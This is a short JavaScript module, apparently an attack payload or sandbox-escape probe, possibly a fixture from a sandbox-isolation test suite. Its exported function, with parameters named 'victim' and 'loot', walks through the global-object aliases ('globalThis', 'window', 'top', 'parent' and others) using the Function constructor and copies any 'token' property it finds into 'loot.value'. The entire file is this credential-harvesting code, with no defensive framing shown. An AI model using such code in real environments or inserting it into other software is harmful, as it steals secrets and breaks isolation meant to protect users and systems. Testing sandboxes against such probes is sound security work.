module.exports = (victim, loot) => {
  for (const name of ['globalThis', 'global', 'self', 'window', 'top', 'parent', 'frames', 'root']) {
    const value = Function('name', 'return globalThis[name]')(name);
    if (value && value.token) loot.value = value.token;
  }
};
